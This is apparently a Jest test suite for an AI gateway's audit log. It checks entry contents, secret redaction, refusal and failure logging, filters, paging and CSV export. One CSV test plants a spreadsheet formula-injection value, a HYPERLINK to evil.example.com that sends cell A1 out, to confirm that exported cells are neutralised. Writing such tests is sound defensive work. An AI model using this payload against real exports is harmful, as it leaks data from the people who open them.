import { randomUUID } from 'node:crypto';
import { AuditRepository } from '../../src/management/control-plane/audit-trail/audit.repository.js';
import { Log } from '../../src/platform/logging.js';
import { PrismaService } from '../../src/platform/prisma/prisma.service.js';
import { listRoutes } from '../support/routes.js';
import { startTestGateway, type TestGateway } from '../support/gateway.js';
import {
  addModel,
  makeProject,
  OperatorClient,
  startControlPlane,
  type TestControlPlane,
} from '../support/management.js';
import { CANARY, type Manage, requestFor } from '../support/requests.js';

const AUDIT = '/admin/audit';

interface Entry {
  id: string;
  occurred_at: string;
  actor_id: string;
  actor_name: string;
  actor_role: string;
  action: string;
  object_kind: string;
  object_id: string | null;
  project_id: string | null;
  outcome: string;
  status: number;
  request_id: string;
  client_address: string;
  before: Record<string, unknown> | null;
  after: Record<string, unknown> | null;
}
interface Page {
  entries: Entry[];
  pagination?: { cursor: string };
}

describe('the audit log, over every route that changes anything', () => {
  let gateway: TestGateway;
  beforeAll(async () => {
    gateway = await startTestGateway();
  });
  afterAll(() => gateway.stop());

  const manage: Manage = (method, path, body) => gateway.manage(method, path, body);
  /** Whatever looks like a secret of ours in an answer. */
  const secretsIn = (text: string) => text.match(/\b(napi|nt_live|nsk_live)_\w{20,}/g) ?? [];

  it('has one entry for each request, and no secret that was sent or answered; nor have kept answers', async () => {
    const { body } = await gateway.manage<{ project: { id: string } }>('POST', '/api/v2/projects', {});
    const secrets = [CANARY, gateway.managementKey];
    const routes = listRoutes(gateway.bough.app).filter(
      ({ method, path, audience }) =>
        method !== 'GET' && audience !== 'public' && audience !== 'inference' && !path.endsWith('*path'),
    );
    expect(routes.length).toBeGreaterThan(18);
    // What ends the project comes last.
    for (const route of routes.toSorted(
      (a, b) =>
        Number(b.path.includes('branch')) - Number(a.path.includes('branch')) ||
        Number(a.method === 'DELETE') - Number(b.method === 'DELETE'),
    )) {
      const request = await requestFor(route, manage, body.project.id);
      const requestId = randomUUID();
      const response = await fetch(gateway.baseUrl + request.path, {
        method: request.method,
        headers: {
          authorization: `Bearer ${gateway.managementKey}`,
          'content-type': 'application/json',
          'x-request-id': requestId,
          'idempotency-key': requestId,
        },
        ...(request.body === undefined ? {} : { body: JSON.stringify(request.body) }),
      });
      secrets.push(...secretsIn(await response.text()));
      const entries = await gateway.sql<{ action: string; status: number; outcome: string; actor_name: string }>(
        'SELECT action, status, outcome, actor_name FROM audit_entries WHERE request_id = $1',
        [requestId],
      );
      const outcome = response.status < 400 ? 'done' : 'refused';
      const action = `${route.method} ${route.path}`;
      // What only reads is no change, whatever its method.
      const written =
        route.audience === 'management-reading'
          ? []
          : [{ action, status: response.status, outcome, actor_name: 'demo' }];
      expect(entries).toEqual(written);
      if (request.known) expect([action, outcome]).toEqual([action, 'done']);
    }
    // A token and its sibling, a management key, and the canary that was encrypted twice.
    expect(secrets.length).toBeGreaterThan(4);
    const [{ all } = { all: '' }] = await gateway.sql<{ all: string }>(
      "SELECT string_agg(to_jsonb(e)::text, ' ') AS all FROM audit_entries e",
    );
    expect(all).toContain('"api_token": "[not recorded]"');
    for (const secret of secrets) expect(all).not.toContain(secret);
    const [{ kept } = { kept: '' }] = await gateway.sql<{ kept: string }>(
      "SELECT string_agg(to_jsonb(k)::text || encode(sealed_answer, 'escape'), ' ') AS kept FROM idempotency_keys k",
    );
    expect(kept.length).toBeGreaterThan(1_000);
    for (const secret of secrets) expect(kept).not.toContain(secret);
  }, 60_000);
});

describe('the audit log', () => {
  let plane: TestControlPlane;
  beforeAll(async () => {
    plane = await startControlPlane();
    await addModel(plane, 'gpt-5');
  });
  afterAll(() => plane.stop());

  const read = async (query = '', client = plane.owner) =>
    (await client.call<Page>('GET', `${AUDIT}${query}`)).body.entries;
  const latest = async (client = plane.owner) => (await read('?limit=1', client))[0];
  const count = async () => {
    const [row] = await plane.sql<{ count: string }>('SELECT count(*) FROM audit_entries');
    return Number(row?.count);
  };
  const idOf = async (client: OperatorClient) => {
    const sql = 'SELECT id FROM management_keys WHERE key_hash = sha256($1::bytea)';
    return (await plane.sql<{ id: string }>(sql, [Buffer.from(client.key)]))[0]?.id;
  };

  describe('an entry', () => {
    it('tells who, when, from where, what, and how it ended', async () => {
      const { body, headers } = await plane.admin.call<{ project: { id: string } }>('POST', '/api/v2/projects', {
        project: { name: 'shop' },
      });
      const entry = await latest();
      expect(entry).toEqual({
        id: expect.stringMatching(/^aud_[0-9a-f]{8}-[0-9a-f]{4}-7/),
        occurred_at: expect.any(String),
        actor_id: await idOf(plane.admin),
        actor_name: 'test',
        actor_role: 'admin',
        action: 'POST /api/v2/projects',
        object_kind: 'project',
        object_id: body.project.id,
        project_id: body.project.id,
        outcome: 'done',
        status: 201,
        request_id: headers.get('x-request-id'),
        client_address: '127.0.0.1',
        before: null,
        after: body,
      });
      expect(Math.abs(Date.now() - Date.parse(entry?.occurred_at ?? ''))).toBeLessThan(10_000);
    });

    it('shows an object before and after: set, set again, removed', async () => {
      const { projectId, mainId } = await makeProject(plane.owner);
      const limit = { scope_type: 'branch', scope_id: mainId, kind: 'requests_per_minute' };
      const put = async (value: number) =>
        (await plane.owner.call<{ id: string }>('PUT', '/admin/limits', { ...limit, value })).body;
      const first = await put(5);
      expect(await latest()).toMatchObject({ project_id: projectId, object_id: first.id, before: null, after: first });
      const second = await put(7);
      expect(await latest()).toMatchObject({ before: first, after: second });
      await plane.owner.call('DELETE', `/admin/limits/${first.id}`);
      expect(await latest()).toMatchObject({
        action: 'DELETE /admin/limits/:limit_id',
        project_id: projectId,
        object_id: first.id,
        before: second,
        after: null,
        status: 204,
      });
    });

    it.each([
      ['POST', '/admin/blocks', (id: string) => ({ scope_type: 'project', scope_id: id, reason: 'why' })],
      [
        'PUT',
        '/admin/branch-defaults',
        (id: string) => ({ project_id: id, pattern: '*', kind: 'requests_per_minute', value: 5 }),
      ],
      ['POST', '/admin/management-keys', (id: string) => ({ name: 'k', role: 'viewer', project_id: id })],
    ])('shows what a removal removed: %s %s', async (method, path, bodyOf) => {
      const { projectId } = await makeProject(plane.owner);
      const { body } = await plane.owner.call<{ id: string }>(method, path, bodyOf(projectId));
      const { id, ...shown } = body;
      delete (shown as { key?: string }).key;
      expect(await latest()).toMatchObject({ object_id: id, project_id: projectId });
      await plane.owner.call('DELETE', `${path}/${id}`);
      expect(await latest()).toMatchObject({ object_id: id, project_id: projectId, before: shown });
    });

    it('shows a credential and a branch before they end', async () => {
      const { projectId, mainId } = await makeProject(plane.owner);
      const branches = `/api/v2/projects/${projectId}/branches`;
      const { body: made } = await plane.owner.call<{ branch: { id: string } }>('POST', branches, {});
      const credentials = `${branches}/${mainId}/credentials`;
      const wanted = { name: 'ci', scopes: ['ai_gateway:invoke'], principal_type: 'user' };
      const { body: issued } = await plane.owner.call<{ token_id: string }>('POST', credentials, wanted);
      expect(await latest()).toMatchObject({
        object_kind: 'credential',
        object_id: issued.token_id,
        project_id: projectId,
        after: { name: 'ci', api_token: '[not recorded]', s3_secret_access_key: '[not recorded]' },
      });
      await plane.owner.call('DELETE', `${credentials}/${issued.token_id}`);
      expect(await latest()).toMatchObject({ object_kind: 'credential', before: { name: 'ci' }, after: null });
      await plane.owner.call('DELETE', `${branches}/${made.branch.id}`);
      expect(await latest()).toMatchObject({ object_kind: 'branch', before: made.branch });
    });

    it('shows an upstream without its secret, and a price with its former one', async () => {
      const wanted = { name: 'u', kind: 'openai-compatible', base_url: 'https://api.example.com/v1', secret: CANARY };
      const { body } = await plane.owner.call<{ id: string }>('POST', '/admin/upstreams', wanted);
      await plane.owner.call('PATCH', `/admin/upstreams/${body.id}`, { secret: `${CANARY}2` });
      const entry = await latest();
      expect(entry).toMatchObject({ object_kind: 'upstream', before: body, after: { name: 'u' } });
      expect(JSON.stringify(await read())).not.toContain(CANARY);
      await plane.owner.call('PATCH', '/admin/models/gpt-5', { pricing: { input: 3, output: 4 } });
      expect(await latest()).toMatchObject({
        before: { pricing: { input: 1, output: 2 } },
        after: { pricing: { input: 3, output: 4 } },
      });
    });

    it('tells of what was refused: a wrong field, no such object, a contradiction, another’s role', async () => {
      const { body: key } = await plane.owner.call<{ id: string }>('POST', '/admin/management-keys', {
        name: 'x',
        role: 'owner',
      });
      const refusals = [
        [400, () => plane.admin.call('PUT', '/admin/limits', { scope_type: { contains: '' }, scope_id: ['x'] })],
        [404, () => plane.admin.call('DELETE', '/admin/blocks/blk_none')],
        [404, () => plane.admin.call('DELETE', '/admin/blocks/no%20id%20at%20all')],
        [409, () => plane.admin.call('POST', '/admin/models', { ...MODEL, id: 'gpt-5' })],
        [403, () => plane.admin.call('DELETE', `/admin/management-keys/${key.id}`)],
      ] as const;
      for (const [status, ask] of refusals) {
        expect((await ask()).status).toBe(status);
        expect(await latest()).toMatchObject({ actor_role: 'admin', outcome: 'refused', status, after: null });
      }
    });

    it('tells of what failed here', async () => {
      const { mainId } = await makeProject(plane.owner);
      const { block } = plane.app.get(PrismaService);
      const wanted = { scope_type: 'branch', scope_id: mainId };
      for (const [status, error] of [
        [503, Object.assign(new Error('gone'), { code: 'P1001' })],
        [500, new TypeError('a fault of ours')],
      ] as const) {
        const create = jest.spyOn(block, 'create').mockRejectedValueOnce(error as never);
        expect((await plane.owner.call('POST', '/admin/blocks', wanted)).status).toBe(status);
        create.mockRestore();
        expect(await latest()).toMatchObject({ action: 'POST /admin/blocks', outcome: 'failed', status });
      }
    });

    it('is not written for looking, nor for whom the guard sends away', async () => {
      const before = await count();
      await plane.owner.call('GET', '/admin/limits');
      await plane.viewer.call('POST', '/admin/blocks', {});
      await plane.owner.send('/admin/blocks', { method: 'POST', body: '{}' });
      expect(await count()).toBe(before);
    });

    it('does not show a key of another project, or organization, what it may not see', async () => {
      const { projectId } = await makeProject(plane.owner);
      const wanted = { scope_type: 'project', scope_id: projectId };
      const { body } = await plane.owner.call<{ id: string }>('POST', '/admin/blocks', wanted);
      expect((await plane.stranger.call('DELETE', `/admin/blocks/${body.id}`)).status).toBe(404);
      expect(await latest(plane.stranger)).toMatchObject({ object_id: body.id, before: null, status: 404 });
    });

    it('is kept by its actor’s organization for good, after the object and the project are gone', async () => {
      const { projectId } = await makeProject(plane.owner, 'gone soon');
      await plane.owner.call('DELETE', `/api/v2/projects/${projectId}`);
      const told = await read(`?object=${projectId}`);
      expect(told.map(({ action }) => action)).toEqual([
        'DELETE /api/v2/projects/:project_id',
        'POST /api/v2/projects',
      ]);
      expect(told[0]?.before).toMatchObject({ name: 'gone soon' });
    });
  });

  describe('when it cannot be written', () => {
    const audit = () => plane.app.get(AuditRepository, { strict: false });

    it('changes nothing where it cannot be seen what would be changed', async () => {
      const { projectId } = await makeProject(plane.owner);
      const lost = Object.assign(new Error('gone'), { code: 'P1001' });
      const find = jest.spyOn(plane.app.get(PrismaService).project, 'findFirst').mockRejectedValueOnce(lost as never);
      const path = `/api/v2/projects/${projectId}`;
      expect((await plane.owner.call('DELETE', path)).status).toBe(503);
      find.mockRestore();
      expect((await plane.owner.call('GET', path)).status).toBe(200);
    });

    it('tries again, and writes it once', async () => {
      const add = jest.spyOn(audit(), 'add').mockRejectedValueOnce(new Error('lost'));
      const before = await count();
      expect((await plane.owner.call('POST', '/api/v2/projects', {})).status).toBe(201);
      expect([add.mock.calls.length, await count()]).toEqual([2, before + 1]);
      add.mockRestore();
    });

    it('answers all the same, and the log has the entry without names and views', async () => {
      const add = jest.spyOn(audit(), 'add').mockRejectedValue(new Error('lost'));
      const told = jest.spyOn(plane.app.get(Log), 'error').mockImplementation(() => undefined);
      const name = 'told to nobody';
      const { status } = await plane.owner.call('POST', '/admin/management-keys', { name, role: 'viewer' });
      expect(status).toBe(201);
      const line = told.mock.calls.find(([message]) => message.includes('audit'))?.[1];
      expect(line).toMatchObject({ action: 'POST /admin/management-keys', outcome: 'done', status: 201 });
      expect(JSON.stringify(line)).not.toContain(name);
      add.mockRestore();
      told.mockRestore();
    });
  });

  describe('GET /admin/audit', () => {
    it('200 goes on page by page, newest first', async () => {
      for (let made = 0; made < 5; made += 1) await plane.stranger.call('POST', '/api/v2/projects', {});
      const all = await read('?limit=1000', plane.stranger);
      const seen: string[] = [];
      for (let cursor = ''; ;) {
        const { body } = await plane.stranger.call<Page>('GET', `${AUDIT}?limit=2${cursor}`);
        seen.push(...body.entries.map(({ id }) => id));
        if (body.pagination === undefined) break;
        cursor = `&cursor=${body.pagination.cursor}`;
      }
      expect(seen).toEqual(all.map(({ id }) => id));
      expect(seen).toEqual(seen.toSorted().toReversed());
      expect(seen.length).toBeGreaterThanOrEqual(5);
    });

    it('200 filters by time, actor, action, object, kind, project and outcome', async () => {
      const client = await plane.enter('owner');
      const start = new Date().toISOString();
      const { projectId, mainId } = await makeProject(client);
      const block = { scope_type: 'branch', scope_id: mainId };
      const { body } = await client.call<{ id: string }>('POST', '/admin/blocks', block);
      await client.call('DELETE', `/admin/blocks/${body.id}`);
      await client.call('POST', '/admin/blocks', {});
      const actor = `actor=${await idOf(client)}`;
      const actions = async (query: string) => (await read(`?${query}`)).map(({ action }) => action);
      const [refused, lifted, set, made] = [
        'POST /admin/blocks',
        'DELETE /admin/blocks/:block_id',
        'POST /admin/blocks',
        'POST /api/v2/projects',
      ];
      expect(await actions(actor)).toEqual([refused, lifted, set, made]);
      expect(await actions(`${actor}&outcome=refused`)).toEqual([refused]);
      expect(await actions(`${actor}&action=${encodeURIComponent('POST /admin/blocks')}`)).toEqual([refused, set]);
      expect(await actions(`object=${body.id}`)).toEqual([lifted, set]);
      expect(await actions(`${actor}&object_kind=project`)).toEqual([made]);
      expect(await actions(`project=${projectId}`)).toEqual([lifted, set, made]);
      expect(await actions(`${actor}&from=${start}`)).toHaveLength(4);
      expect(await actions(`${actor}&to=${start}`)).toHaveLength(0);
      expect(await actions(`${actor}&from=2001-01-01&to=2001-01-02`)).toHaveLength(0);
    });

    it('200 shows an organization its own, and a key of one project its project’s', async () => {
      const { projectId } = await makeProject(plane.owner);
      const other = await makeProject(plane.owner);
      const client = await plane.enter('viewer', projectId);
      expect((await read('', client)).map(entry => entry.project_id)).toEqual([projectId]);
      expect(await read(`?project=${other.projectId}`, client)).toEqual([]);
      expect(await read(`?project=${projectId}`, plane.stranger)).toEqual([]);
    });

    it.each([
      ['limit=0', 'limit'],
      ['limit=1001', 'limit'],
      ['cursor=none', 'cursor'],
      ['cursor=aud_', 'cursor'],
      ['from=yesterday', 'from'],
      ['from=2026-02-01&to=2026-01-01', 'to'],
      ['outcome=maybe', 'outcome'],
      ['format=xml', 'format'],
      ['organization=x', 'organization'],
    ])('400 for %s', async (query, param) => {
      const { status, body } = await plane.owner.call<{ error: { param: string } }>('GET', `${AUDIT}?${query}`);
      expect([status, body.error.param]).toEqual([400, param]);
    });

    it('has no other methods', async () => {
      const [entry] = await read('?limit=1');
      for (const method of ['DELETE', 'PATCH', 'PUT', 'POST']) {
        expect((await plane.owner.call(method, AUDIT)).status).toBe(405);
        expect((await plane.owner.call(method, `${AUDIT}/${entry?.id}`)).status).toBe(404);
      }
    });
  });

  describe('as CSV', () => {
    const csv = async (query: string, client = plane.owner, accept = '*/*') => {
      const headers = { authorization: `Bearer ${client.key}`, accept };
      const response = await fetch(`${plane.baseUrl}${AUDIT}${query}`, { headers });
      return { response, text: await response.text() };
    };

    it('begins with its columns, and no cell is a formula', async () => {
      const name = '=HYPERLINK("https://evil.example.com/?"&A1,"click")';
      const { body } = await plane.owner.call<{ key: string }>('POST', '/admin/management-keys', {
        name,
        role: 'owner',
      });
      const client = new OperatorClient(plane.baseUrl, body.key, plane.owner.organizationId, []);
      await client.send('/api/v2/projects', {
        method: 'POST',
        headers: { authorization: `Bearer ${body.key}`, 'content-type': 'application/json', 'x-request-id': '-1' },
        body: '{}',
      });
      const { response, text } = await csv('?limit=1', plane.owner, 'text/csv');
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      expect(response.headers.get('content-disposition')).toContain('audit.csv');
      const [columns, first = ''] = text.split('\r\n');
      expect(columns).toBe(
        'id,occurred_at,actor_id,actor_name,actor_role,action,object_kind,object_id,project_id,outcome,status,' +
          'request_id,client_address,before,after',
      );
      expect(first).toContain(`,"'=HYPERLINK(""https://evil.example.com/?""&A1,""click"")",owner,`);
      expect(first).toContain(`,'-1,`);
      for (const cell of text.matchAll(/(?:^|,|\r\n)"?(.)/g)) expect(cell[1]).not.toMatch(/[=+\-@\t]/);
    });

    it('is whole, however many entries there are', async () => {
      const { organizationId } = plane.stranger;
      await plane.sql(
        `INSERT INTO audit_entries (id, occurred_at, organization_id, actor_id, actor_name, actor_role, action,
           object_kind, request_id, client_address, outcome, status)
         SELECT 'aud_00000000-0000-7000-8000-' || lpad(n::text, 12, '0'), to_timestamp(0), $1, 'bulk', 'a', 'owner', 'x',
           'y', 'r', '::1', 'done', 200
         FROM generate_series(1, 2300) n`,
        [organizationId],
      );
      const { text } = await csv('?actor=bulk&format=csv', plane.stranger);
      const ids = text
        .split('\r\n')
        .slice(1, -1)
        .map(line => line.split(',')[0]);
      expect([ids.length, new Set(ids).size]).toEqual([2300, 2300]);
    });

    it('breaks the connection when it breaks off', async () => {
      const { auditEntry } = plane.app.get(PrismaService);
      const findMany = auditEntry.findMany.bind(auditEntry);
      let pages = 0;
      const spy = jest.spyOn(auditEntry, 'findMany').mockImplementation(((query: never) => {
        pages += 1;
        if (pages === 2) throw new Error('gone');
        return findMany(query);
      }) as never);
      await expect(csv('?actor=bulk&format=csv', plane.stranger)).rejects.toThrow();
      spy.mockRestore();
    });
  });
});

const MODEL = { name: 'A model', type: 'chat', provider: 'acme', dialects: ['chat_completions'] };
